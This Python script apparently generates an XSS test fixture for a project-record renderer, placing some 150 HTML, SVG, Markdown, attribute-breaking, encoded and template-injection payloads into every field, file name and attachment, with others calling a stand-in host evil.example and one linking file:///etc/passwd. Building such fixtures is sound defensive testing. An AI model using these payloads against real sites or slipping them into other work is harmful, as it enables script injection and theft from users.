#!/usr/bin/env python3
"""Writes a program whose every field holds something that must stay text: payloads.py FOLDER

Each payload calls pwn(N) if a browser lets it, or asks evil.example for something. FOLDER gets program/ and payloads.json.
"""
import json
import sys
from pathlib import Path

# N stands for the payload's number.
ELEMENTS = [
    "<script>pwn(N)</script>",
    "<ScRiPt >pwn(N)</sCrIpT\t>",
    "<script src=//evil.example/N.js></script>",
    "<script type=module>pwn(N)</script>",
    "</script><script>pwn(N)</script>",
    "</title><script>pwn(N)</script>",
    "</style><script>pwn(N)</script>",
    "</textarea><script>pwn(N)</script>",
    "</main></body><script>pwn(N)</script>",
    "<img src=x onerror=pwn(N)>",
    "<img src=x onerror=pwn(N) ",
    "<img src=x:x onerror=\"pwn(N)\" alt='",
    "<img/src=x/onerror=pwn(N)>",
    "<img srcset=//evil.example/N>",
    "<img src=//evil.example/N.png>",
    "<image src=x onerror=pwn(N)>",
    "<svg onload=pwn(N)>",
    "<svg/onload=pwn(N)//",
    "<svg><script>pwn(N)</script></svg>",
    "<svg><animate onbegin=pwn(N) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:pwn(N) /><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\" /></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.pwn(N)></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=pwn(N)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwn(N)&gt;\">",
    "<math href=javascript:pwn(N)>x</math>",
    "<body onload=pwn(N)>",
    "<frameset onload=pwn(N)>",
    "<details open ontoggle=pwn(N)>x</details>",
    "<details open><summary onclick=pwn(N)>x</summary></details>",
    "<kbd onmouseover=pwn(N)>x</kbd>",
    "<mark style=\"background:url(//evil.example/N)\">x</mark>",
    "<table background=//evil.example/N><tr><td onclick=pwn(N)>x</td></tr></table>",
    "<video><source onerror=pwn(N)></video>",
    "<audio src=x onerror=pwn(N)>",
    "<input autofocus onfocus=pwn(N)>",
    "<select autofocus onfocus=pwn(N)>",
    "<p tabindex=1 autofocus onfocus=pwn(N)>x</p>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange=pwn(N)>x</p>",
    "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=pwn(N)>x</b>",
    "<marquee onstart=pwn(N)>x</marquee>",
    "<iframe src=javascript:parent.pwn(N)>",
    "<iframe srcdoc=\"<script>parent.pwn(N)</script>\">",
    "<object data=javascript:pwn(N)></object>",
    "<embed src=javascript:pwn(N)>",
    "<form action=javascript:pwn(N)><button>go</button></form>",
    "<button formaction=javascript:pwn(N)>go</button>",
    "<isindex action=javascript:pwn(N) type=submit>",
    "<base href=//evil.example/N/>",
    "<base target=pwn><a href=x>x</a>",
    "<link rel=stylesheet href=//evil.example/N.css>",
    "<link rel=preload as=script href=//evil.example/N.js>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwn(N)\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/N\">",
    "<style>@import '//evil.example/N.css';</style>",
    "<style>body{background:url(//evil.example/N)}</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn(N)>\">",
    "<template><img src=x onerror=pwn(N)></template>",
    "<xmp><script>pwn(N)</script></xmp>",
    "<plaintext>pwn(N)",
    "<!--><img src=x onerror=pwn(N)>-->",
    "<!-- --!><img src=x onerror=pwn(N)>",
    "<![CDATA[><img src=x onerror=pwn(N)>]]>",
    "<?xml-stylesheet href=\"javascript:pwn(N)\"?>",
    "<!DOCTYPE x [<!ENTITY e \"<script>pwn(N)</script>\">]>&e;",
    "<a id=__proto__ name=constructor>x</a><form id=document name=cookie>",
    "<a href=x ping=//evil.example/N>x</a>",
    "<dialog open onclose=pwn(N)>x</dialog><button popovertarget=p onbeforetoggle=pwn(N)>x</button>",
]
LINKS = [
    "<a href=\"javascript:pwn(N)\">x</a>",
    "<a href=\"JaVaScRiPt:pwn(N)\">x</a>",
    "<a href=\"java\tscript:pwn(N)\">x</a>",
    "<a href=\"java&#x09;script&colon;pwn(N)\">x</a>",
    "<a href=\"&#106;&#97;vascript:pwn(N)\">x</a>",
    "<a href=\"&#1;javascript:pwn(N)\">x</a>",
    "<a href=\"vbscript:pwn(N)\">x</a>",
    "<a href=\"data:text/html,<script>pwn(N)</script>\">x</a>",
    "<a href=\"blob:https://evil.example/N\">x</a>",
    "[x](javascript:pwn(N))",
    "[x](JAVASCRIPT:pwn(N))",
    "[x](<javascript:pwn(N)>)",
    "[x](javascript&colon;pwn\\(N\\))",
    "[x](java&#10;script:pwn(N))",
    "[x](%6Aavascript:pwn(N))",
    "[x](\\javascript:pwn(N))",
    "[x](vbscript:pwn(N))",
    "[x](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=)",
    "[x](view-source:javascript:pwn(N))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/N)",
    "[x](/\\evil.example/N)",
    "[x](https:javascript:pwn(N))",
    "[x](https://a.example/\"onmouseover=\"pwn(N))",
    "[x](mailto:a@b.example?\"onmouseover=\"pwn(N))",
    "[x](https://a.example 'x\" onmouseover=\"pwn(N)')",
    "![x](javascript:pwn(N))",
    "![x](//evil.example/N.png)",
    "![x](https://evil.example/N.png)",
    "![x\" onerror=\"pwn(N)](missing.png)",
    "![x](data:image/svg+xml,<svg onload=pwn(N)>)",
    "[![x](x.png)](javascript:pwn(N))",
    "<javascript:pwn(N)>",
    "<https://a.example/\"onmouseover=pwn(N)//>",
    "[x][rN]\n\n[rN]: javascript:pwn(N)",
    "[[javascript:pwn(N)]]",
    "[[<img src=x onerror=pwn(N)>]]",
    "[^<img src=x onerror=pwn(N)>]",
]
QUOTES = [
    "\" onmouseover=\"pwn(N)\" x=\"",
    "' onmouseover='pwn(N)' x='",
    "` onmouseover=`pwn(N)` x=`",
    "x onfocus=pwn(N) autofocus tabindex=1",
    "\"><img src=x onerror=pwn(N)>",
    "'><img src=x onerror=pwn(N)>",
    "x\" style=\"background:url(//evil.example/N)",
    "x\" class=\"a\" id=\"b\" srcdoc=\"<script>pwn(N)</script>",
    "');pwn(N);//",
    "\\\");pwn(N);//",
    "${pwn(N)}",
    "\"};pwn(N);{\"",
    "\u2028pwn(N)//\u2029",
    "*/pwn(N)/*",
    "-->pwn(N)<!--",
    "]]><script>pwn(N)</script>",
]
ENCODED = [
    "&lt;script&gt;pwn(N)&lt;/script&gt;",
    "&#60;img src=x onerror=pwn(N)&#62;",
    "&amp;lt;img src=x onerror=pwn(N)&amp;gt;",
    "%3Cscript%3Epwn(N)%3C/script%3E",
    "\\u003cscript\\u003epwn(N)\\u003c/script\\u003e",
    "\\x3cscript\\x3epwn(N)\\x3c/script\\x3e",
    "\uff1cscript\uff1epwn(N)\uff1c/script\uff1e",
    "+ADw-script+AD4-pwn(N)+ADw-/script+AD4-",
    "\u202e<script>pwn(N)</script>\u202c",
    "<scr\u200bipt>pwn(N)</scr\u200bipt>",
    "<\u212ascript>pwn(N)</script>",
    "{{{payload}}}",
    "{{=<% %>=}}<%& payload %>",
    "{{> page}}{{#program}}{{/program}}",
    "{{<b>}}<script>pwn(N)</script>",
    "C:\\New\\table AT&amp;T {{x}} 100% <b>not bold</b>",
    "__proto__",
    "constructor",
]
MARKDOWN = [
    "# <img src=x onerror=pwn(N)>",
    "## Heading {#x onmouseover=pwn(N)}",
    "```html\" onmouseover=\"pwn(N)\n<script>pwn(N)</script>\n```",
    "~~~<img/src=x/onerror=pwn(N)>\ncode\n~~~",
    "| a | b |\n| --- | --- |\n| <img src=x onerror=pwn(N)> | \" onclick=\"pwn(N) |",
    "- [x] <img src=x onerror=pwn(N)>\n- [ ] \" onclick=\"pwn(N)",
    "> <svg onload=pwn(N)>",
    "1. <details open ontoggle=pwn(N)>\n2. </details>",
    "`<script>pwn(N)</script>`",
    "**<script>pwn(N)</script>** ~~<img src=x onerror=pwn(N)>~~",
    "text[^1]\n\n[^1]: <img src=x onerror=pwn(N)> [x](javascript:pwn(N))",
    "<div>\n\n<script>pwn(N)</script>\n\n</div>",
    "<details><summary>x</summary>\n\n<img src=x onerror=pwn(N)>\n\n</details>",
    "<a href=\"javascript:pwn(N)\" onclick=\"pwn(N)\">**x**</a>",
    "<td><img src=\"javascript:pwn(N)\" onerror=\"pwn(N)\"></td>",
    "DEP-1: <img src=x onerror=pwn(N)>",
]

KINDS = """objective requirement workstream task milestone dependency risk assumption issue action decision blocker escalation
change release incident stakeholder meeting communication metric budget capacity vendor lesson document""".split()

# Names from all kinds; on a kind that does not have one it is an unknown key, which is a position too.
TEXT_FIELDS = """summary description context rationale consequences alternatives mitigation contingency impact impact_text
trigger resolution workaround root_cause timeline situation recommendation question answer definition acceptance notes because
impact_if_late commitment confidence health status priority severity likelihood type phase environment scope cost effort estimate
due start target date raised identified last_reviewed next_review needed_by promised decision_needed_by decided completed started
owner provider consumer team by to lead approvers participants engagement interest influence channel frequency audience message
unit direction target_value cadence bands url evidence source version label sponsor contract_value renewal""".split()
LINK_FIELDS = "depends_on part_of delivers mitigates threatens realized_as blocks escalates decides supersedes relates_to".split()


def payloads():
    found = []
    for kinds in (ELEMENTS, LINKS, QUOTES, ENCODED, MARKDOWN):
        for text in kinds:
            number = len(found) + 1
            found.append(text.replace("(N)", f"({number})").replace("\\(N\\)", f"\\({number}\\)").replace("/N", f"/{number}"))
    return found


def quoted(text):
    """A YAML double-quoted scalar: JSON's escapes are among YAML's."""
    return json.dumps(text)


def cell(text):
    return text.replace("\\", "\\\\").replace("|", "\\|").replace("\n", " ")


def line(text):
    return text.replace("\n", " ")


def record(kind, number, text):
    """A record file whose every field is the payload."""
    out = ["---", f"id: {kind.upper()[:3]}-{number}", f"kind: {kind}", f"title: {quoted(text)}"]
    out += [f"{name}: {quoted(text)}" for name in TEXT_FIELDS]
    out += [f"{name}: [{quoted(text)}]" for name in LINK_FIELDS]
    out.append(f"options: [{{name: {quoted(text)}, pros: [{quoted(text)}], cons: [{quoted(text)}]}}]")
    out.append(f"signoffs: [{{role: {quoted(text)}, by: {quoted(text)}, decision: {quoted(text)}, via: {quoted(text)}}}]")
    out.append(f"approvals: [{{role: {quoted(text)}, by: {quoted(text)}}}]")
    out.append(f"{quoted(text)[:-1]} key\": {quoted(text)}")
    out += ["---", "", text, "", f"# {line(text)}", "", f"## {line(text)}", "", f"Some {line(text)} text.", ""]
    out += [f"- {line(text)}", f"- [x] {line(text)} (owner: {line(text)}, due: {line(text)})", "", f"> {line(text)}", ""]
    out += [f"| {cell(text)} | b |", "| --- | --- |", f"| {cell(text)} | {cell(text)} |", ""]
    out += [f"```{line(text).replace('`', '')}", text, "```", "", f"`{line(text)}`", ""]
    out += [f"[{line(text)}](https://a.example/ {quoted(text)})", "", f"![{line(text)}](x.svg {quoted(text)})", ""]
    return "\n".join(out)


def in_fives(found):
    """(number, five payloads) until each had its turn: one record then tries five of them."""
    for at in range(0, len(found), 5):
        yield at // 5 + 1, [found[(at + step) % len(found)] for step in range(5)]


def well_formed(number, five):
    """Values that parse, with the payload in the part that is kept as a comment or as text."""
    return "\n".join(
        [
            f"- id: R-{9000 + number}",
            f"  title: {quoted('Comment ' + five[0])}",
            f"  status: {quoted('open — ' + five[1])}",
            f"  likelihood: {quoted('High — ' + five[2])}",
            f"  impact: {quoted('Medium: ' + five[3])}",
            f"  owner: p{number}",
            f"  health: {{value: at_risk, because: {quoted(five[4])}, until: 2026-06-12}}",
            f"  mitigation: {quoted(five[0])}",
        ]
    )


def program_file(found):
    sample = found[::7]
    out = [f"program: {quoted(found[0] + found[9])}", "id: XSS", "as_of: 2026-06-01", "start: 2026-01-05", "people:"]
    out += [
        f"  p{at}: {{name: {quoted(text)}, team: t{at % 5}, role: {quoted(text)}, email: {quoted(text)}}}"
        for at, text in enumerate(found, 1)
    ]
    out.append("teams:")
    out += [f"  t{at}: {{name: {quoted(text)}, lead: p{at + 1}}}" for at, text in enumerate(sample[:5])]
    out.append("roles:")
    out += [f"  {quoted(text)}: p{at + 1}" for at, text in enumerate(sample[:5])]
    out.append("kinds:")
    out.append(f"  gadget: {{is_a: record, prefix: GAD, label: {quoted(found[9])}, fields: {{{quoted(found[9])}: text}}}}")
    out.append('records: [{path: "logs/*.md", kind: risk}]')
    out.append("site:")
    out.append(f"  edit_url: {quoted('javascript:pwn(1)//{path}')}")
    return "\n".join(out) + "\n"


def risk_log(found):
    """A table and field blocks: the spellings other than front matter."""
    out = ["# Risks <img src=x onerror=pwn(1)>", "", "| ID | Risk | Likelihood | Impact | Owner | Status |", "| --- | --- | --- | --- | --- | --- |"]
    for number, five in in_fives(found):
        out.append(f"| RL-{number} | {' | '.join(cell(text) for text in five)} |")
    for number, five in in_fives(found):
        flat = [line(text).replace("`", "") for text in five]
        out += ["", "```", f"RISK-{5000 + number}: {flat[0]}", f"Owner: {flat[1]}", f"Status: {flat[2]}"]
        out += [f"Mitigation: {flat[3]}", f"Impact: {flat[4]}", "```"]
    return "\n".join(out) + "\n"


ACTIVE_FILES = {
    "x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(900)"><script>pwn(901)</script>'
    '<a href="javascript:pwn(902)"><text y="20">x</text></a></svg>\n',
    "page.html": "<!doctype html><title>x</title><script>pwn(903)</script>\n",
    "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>pwn(904)</script></html>\n',
    "data.xml": '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn(905)</x:script>\n',
    "script.js": "pwn(906)\n",
}


def write(folder):
    root = Path(folder) / "program"
    found = payloads()
    for kind in KINDS:
        (root / kind).mkdir(parents=True)
    (root / "pages").mkdir()
    (root / "logs").mkdir()
    (root / "program.yaml").write_text(program_file(found), encoding="utf-8")
    for number, text in enumerate(found, 1):
        kind = KINDS[number % len(KINDS)]
        (root / kind / f"{kind.upper()[:3]}-{number}.md").write_text(record(kind, number, text), encoding="utf-8")
    for number, five in in_fives(found):
        text = "\n\n".join(f"{text}\n\n# {line(text)}\n\n{text}" for text in five)
        (root / "pages" / f"page-{number}.md").write_text(text + "\n", encoding="utf-8")
    plain = "\n".join(well_formed(number, five) for number, five in in_fives(found))
    (root / "risks.yaml").write_text("risks:\n" + plain + "\n", encoding="utf-8")
    (root / "logs" / "risks.md").write_text(risk_log(found), encoding="utf-8")
    for number, name in enumerate(["<img src=x onerror=pwn(910)>", "\" onmouseover=\"pwn(911)", "'><b>", "javascript:pwn(912)"]):
        (root / "pages" / (name.replace("/", "_") + ".md")).write_text(f"# File {number}\n", encoding="utf-8")
    links = [f"[{name}](files/{name}) ![{name}](files/{name})" for name in ACTIVE_FILES]
    (root / "README.md").write_text("# Attachments\n\n" + "\n\n".join(links) + "\n", encoding="utf-8")
    (root / "files").mkdir()
    for name, text in ACTIVE_FILES.items():
        (root / "files" / name).write_text(text, encoding="utf-8")
        for kind in KINDS:
            (root / kind / name).write_text(text, encoding="utf-8")
    (Path(folder) / "payloads.json").write_text(json.dumps(found), encoding="utf-8")
    return len(found)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    print(f"{write(sys.argv[1])} payloads")
